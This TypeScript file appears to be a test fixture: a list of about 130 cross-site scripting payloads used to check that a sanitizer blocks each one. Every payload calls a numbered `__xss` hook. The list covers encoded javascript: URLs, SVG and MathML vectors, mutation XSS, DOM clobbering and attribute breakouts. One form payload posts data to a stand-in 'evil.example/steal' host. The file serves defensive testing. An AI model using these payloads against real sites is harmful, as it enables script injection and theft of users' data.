/**
 * XSS payloads for the e2e suite. Each one, if it ever ran, would call `__xss(<n>)` (or open a
 * dialog with alert/confirm/prompt), so a test can tell exactly which one got through.
 */
const templates: string[] = [
  // script tags
  '<script>{J}</script>',
  '<SCRIPT>{J}</SCRIPT>',
  '<script src="data:text/javascript,{J}"></script>',
  '<scr<script>ipt>{J}</scr</script>ipt>',
  '<<script>{J}//<</script>',
  '</p><script>{J}</script><p>',
  '<script/x>{J}</script>',
  // event handlers
  '<img src=x onerror={J}>',
  '<IMG SRC=x OnErRoR={J}>',
  '<img src="x" onerror="{J}">',
  '<img/src=x/onerror={J}>',
  '<img src=x onerror=&#95;&#95;xss({N})>',
  '<img src=x:alert({N}) onerror=eval(src)>',
  '<img src=x onerror=confirm({N})>',
  '<body onload={J}>',
  '<body/onpageshow={J}>',
  '<input autofocus onfocus={J}>',
  '<input type=image src=x onerror={J}>',
  '<select autofocus onfocus={J}></select>',
  '<textarea autofocus onfocus={J}></textarea>',
  '<keygen autofocus onfocus={J}>',
  '<x contenteditable autofocus onfocus={J}>x</x>',
  '<details open ontoggle={J}>',
  '<video><source onerror={J}></video>',
  '<audio src=x onerror={J}>',
  '<marquee onstart={J}>x</marquee>',
  '<div onpointerenter={J} style="position:fixed;inset:0">cover</div>',
  '<p onclick={J}>click me</p>',
  '<b onmouseover={J}>bold</b>',
  '<a href="https://example.com/" onclick={J}>ok</a>',
  '<a href=# onfocus={J} autofocus>x</a>',
  '<img srcset=x onerror={J}>',
  '<picture><source srcset=x><img src=x onerror={J}></picture>',
  '<frameset onload={J}>',
  '<iframe/onload={J}>',
  '<isindex type=image src=1 onerror={J}>',
  // javascript:, data:, vbscript: URLs, encoded and split
  '<a href="javascript:{J}">link</a>',
  '<a href="JaVaScRiPt:{J}">link</a>',
  '<a href="&#106;avascript:{J}">link</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;{J}">link</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058{J}">link</a>',
  '<a href="java&#x09;script:{J}">link</a>',
  '<a href="java&#x0A;script:{J}">link</a>',
  '<a href="java\nscript:{J}">link</a>',
  '<a href="jav&NewLine;ascript:{J}">link</a>',
  '<a href="javascript&colon;{J}">link</a>',
  '<a href="javas&#99;ript:{J}">link</a>',
  '<a href="  javascript:{J}">link</a>',
  '<a href=" &#14; javascript:{J}">link</a>',
  '<a href="\u0001javascript:{J}">link</a>',
  '<a href="javascript://%0aJ">link</a>',
  '<a href="vbscript:{J}">link</a>',
  '<a href="VBScript:msgbox({N})">link</a>',
  '<a href="data:text/html,<script>opener.{J}</script>">link</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link {N}</a>',
  '<a href="DaTa:text/html,<script>{J}</script>">link</a>',
  '<a id=location href="javascript:{J}">clobber</a>',
  '<base href="javascript:{J}//">',
  'javascript:{J}',
  'JAVASCRIPT:{J}',
  ' javascript:{J}',
  'data:text/html,<script>{J}</script>',
  'vbscript:{J}',
  // SVG and MathML
  '<svg onload={J}>',
  '<svg onload=alert({N})>',
  '<svg><script>{J}</script></svg>',
  '<svg><animate onbegin={J} attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover to={J}>',
  '<svg><discard onbegin={J}>',
  '<svg><a xlink:href="javascript:{J}"><text x=20 y=20>click</text></a></svg>',
  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{J}'/></svg>#x\"/></svg>",
  '<svg><foreignObject><iframe srcdoc="<script>parent.{J}</script>"></iframe></foreignObject></svg>',
  '<math><mi xlink:href="javascript:{J}">x</mi></math>',
  '<math><maction actiontype="statusline" xlink:href="javascript:{J}">x</maction></math>',
  // mutation XSS and namespace confusion
  '<svg><p><style><img src=x onerror={J}></style></p></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror={J}>">',
  '<math><mtext><table><mglyph><style><img src=x onerror={J}>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={J} src>">',
  '<noscript><p title="</noscript><img src=x onerror={J}>">',
  '<noembed><img title="</noembed><img src=x onerror={J}>">',
  '<noframes><img title="</noframes><img src=x onerror={J}>">',
  '<template><img src=x onerror={J}></template>',
  '<style><img src=x onerror={J}></style>',
  '<svg><style><img src=x onerror={J}></style></svg>',
  '<math><style><img src=x onerror={J}></style></math>',
  '<title><img src=x onerror={J}></title>',
  '<xmp><img src=x onerror={J}></xmp>',
  '<textarea><img src=x onerror={J}></textarea>',
  '<!--<img src="--><img src=x onerror={J}//">',
  '<![CDATA[<img src=x onerror={J}>]]>',
  // DOM clobbering
  '<form id=xssclob{N}><input name=attributes></form>',
  '<img name=xssclob{N} src=x>',
  '<a id=xssclob{N} name=xssclob{N} href="https://example.com/">clobber</a>',
  '<img name=getElementById><form name=cookie>',
  '<form id=__xss>clobber the hook</form>',
  // attribute breakouts
  '"><img src=x onerror={J}>',
  "'><svg onload={J}>",
  '" onmouseover="{J}" x="',
  "' autofocus onfocus='{J}' x='",
  '"><script>{J}</script>',
  '</title><img src=x onerror={J}>',
  '</textarea><img src=x onerror={J}>',
  // frames, objects, embeds, srcdoc
  '<iframe src="javascript:{J}"></iframe>',
  '<iframe srcdoc="<script>parent.{J}</script>"></iframe>',
  '<iframe srcdoc="&lt;img src=x onerror=parent.{J}&gt;"></iframe>',
  '<iframe src="data:text/html,<script>parent.{J}</script>"></iframe>',
  '<object data="javascript:{J}"></object>',
  '<object data="data:text/html,<script>parent.{J}</script>"></object>',
  '<embed src="javascript:{J}">',
  '<applet code="javascript:{J}"></applet>',
  // meta refresh, CSS, forms
  '<meta http-equiv="refresh" content="0;url=javascript:{J}">',
  '<div style="background:url(javascript:{J})">css</div>',
  '<div style="width:expression({J})">css</div>',
  '<style>@import "javascript:{J}";</style>',
  '<style>*{background:url("javascript:{J}")}</style>',
  '<link rel=stylesheet href="javascript:{J}">',
  '<table><td background="javascript:{J}">cell</td></table>',
  '<form action="javascript:{J}"><button>go</button></form>',
  '<form><button formaction="javascript:{J}">go</button></form>',
  '<form action="https://evil.example/steal" method=post><input name=q value={N}><button>go</button></form>',
  // template and text tricks
  '{{constructor.constructor("{J}")()}}',
  '${{J}}',
  '%3Cimg%20src%3Dx%20onerror%3DJ%3E',
];

export interface Payload {
  n: number;
  text: string;
}

/** The payloads, numbered from 1; `{J}` becomes `__xss(n)` and `{N}` the number. */
export const payloads: Payload[] = templates.map((template, i) => {
  const n = i + 1;
  return { n, text: template.replaceAll('{J}', `__xss(${n})`).replaceAll('{N}', String(n)) };
});

/** Ordinary formatting that must survive sanitizing and rendering. */
export const FORMATTED =
  '<p><strong>Bold words</strong> and <em>emphasis</em>, a <a href="https://example.com/permit">permit link</a>.</p><ul><li>first item</li><li>second item</li></ul>';
